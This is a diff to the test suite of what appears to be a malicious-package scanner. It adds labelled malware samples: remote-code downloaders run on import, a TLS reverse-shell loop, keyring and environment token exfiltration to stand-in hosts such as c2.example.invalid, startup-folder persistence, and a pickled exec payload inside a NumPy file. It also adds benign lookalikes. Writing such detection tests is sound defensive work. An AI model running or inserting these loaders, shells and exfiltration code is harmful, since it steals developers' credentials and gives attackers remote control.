@@ -384,6 +384,73 @@ TECHNIQUES = [
         "download-execute.remote-command",
     ),
     (
+        "decorator-applied-on-import-starts-a-downloader",
+        "import subprocess, sys\n"
+        "def _boot():\n"
+        "    cmd = [sys.executable, '-c', "
+        "'import urllib.request as u;exec(u.urlopen(\"https://c2.example.invalid/p\").read())']\n"
+        "    subprocess.Popen(cmd)\n"
+        "def register(name):\n"
+        "    def deco(fn):\n        _boot()\n        return fn\n"
+        "    return deco\n"
+        "@register('version')\ndef version():\n    return '1'\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "download-written-through-fdopen-then-runpy",
+        "import os, runpy, tempfile, httpx\n"
+        "def _apply():\n"
+        "    body = httpx.get('https://c2.example.invalid/p.py').text\n"
+        "    fd, path = tempfile.mkstemp(suffix='.py')\n"
+        "    with os.fdopen(fd, 'w') as fh:\n        fh.write(body)\n"
+        "    runpy.run_path(path)\n"
+        "_apply()\n",
+        "download-execute.drop-and-run",
+    ),
+    (
+        "keyring-secrets-leaked-on-import",
+        "import socket, keyring\n"
+        "def _audit():\n"
+        "    found = {}\n"
+        "    for svc in ('pypi', 'github'):\n"
+        "        try:\n            v = keyring.get_password(svc, '__token__')\n"
+        "        except Exception:\n            v = None\n"
+        "        if v:\n            found[svc] = v\n"
+        "    socket.getaddrinfo('%s.k.example.invalid' % found, 443)\n"
+        "_audit()\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "ftp-download-executed",
+        "import ftplib, io\n"
+        "buf = io.BytesIO()\n"
+        "ftp = ftplib.FTP('ftp.example.invalid')\n"
+        "ftp.retrbinary('RETR loader.py', buf.write)\n"
+        "exec(buf.getvalue())\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "tls-socket-command-loop-in-a-child-process",
+        "import os, socket, ssl, multiprocessing\n"
+        "def _child():\n"
+        "    ctx = ssl.create_default_context()\n"
+        "    s = ctx.wrap_socket(socket.create_connection(('198.51.100.9', 443)))\n"
+        "    for line in s.makefile():\n"
+        "        s.sendall(os.popen(line).read().encode())\n"
+        "multiprocessing.Process(target=_child, daemon=True).start()\n",
+        "download-execute.remote-command",
+    ),
+    (
+        "startup-folder-shortcut-from-a-timer",
+        "import threading, win32com.client\n"
+        "def _shortcut():\n"
+        "    shell = win32com.client.Dispatch('WScript.Shell')\n"
+        "    lnk = shell.CreateShortCut(shell.SpecialFolders('Startup') + '/helper.lnk')\n"
+        "    lnk.Save()\n"
+        "threading.Timer(45.0, _shortcut).start()\n",
+        "persistence.autostart",
+    ),
+    (
         "dpapi-decryption-sent",
         "import win32crypt, requests\n"
         "def steal(blob):\n"
@@ -486,6 +553,20 @@ LOOKALIKES = [
         "optional-import-set-to-none",
         "try:\n    import requests\nexcept ImportError:\n    requests = None\n"
         "def get(url):\n    return requests.get(url).text\n",
+    ),
+    (
+        "upload-tool-sending-a-keyring-password-on-request",
+        "import keyring, requests\n"
+        "def upload(repo, dist):\n"
+        "    password = keyring.get_password(repo, '__token__')\n"
+        "    requests.post(repo, auth=('__token__', password), files={'content': dist})\n",
+    ),
+    (
+        "shell-variable-from-curl-output",
+        "import subprocess\n"
+        "def run_on_node(ip, command):\n"
+        "    script = 'TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token); ' + command\n"
+        "    subprocess.run(['ssh', ip, script])\n",
     ),
     (
         "template-engine-exec-of-generated-code",
@@ -721,3 +802,28 @@ def test_commands_inside_a_native_binary_of_a_pure_wheel(tmp_path: Path) -> None
         _write(tmp_path, build_wheel("sx", "1.0", {"sx/__init__.py": optional, so: blob}))
     )
     assert result.verdict == "malicious"
+
+
+def test_pytest_hooks_in_a_shipped_conftest_run_in_every_session() -> None:
+    src = (
+        "import os, urllib.request\n"
+        "def pytest_configure(config):\n"
+        "    found = {k: os.environ[k] for k in ('GITHUB_TOKEN', 'PYPI_API_TOKEN') if k in os.environ}\n"
+        "    urllib.request.urlopen('https://c2.example.invalid/gh', data=repr(found).encode())\n"
+    )
+    assert found(src, "conftest.py")["exfiltration.credentials"] == "critical"
+    fixture = "import pytest\n@pytest.fixture\ndef token():\n    return 'x'\n"
+    assert found(fixture, "conftest.py") == {}
+
+
+def test_numpy_object_array_with_a_pickled_payload() -> None:
+    class Exec:
+        def __reduce__(self) -> tuple[object, tuple[str]]:
+            return (exec, ("print('inert')",))
+
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += b" " * (63 - len(header)) + b"\n"
+    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
+    rule = "unsafe-deserialization.malicious-file"
+    assert rule in found_bytes(npy + pickle.dumps([Exec()], protocol=2), "pkg/table.npy")
+    assert found_bytes(npy + pickle.dumps(["ok"], protocol=2), "pkg/table.npy") == {}
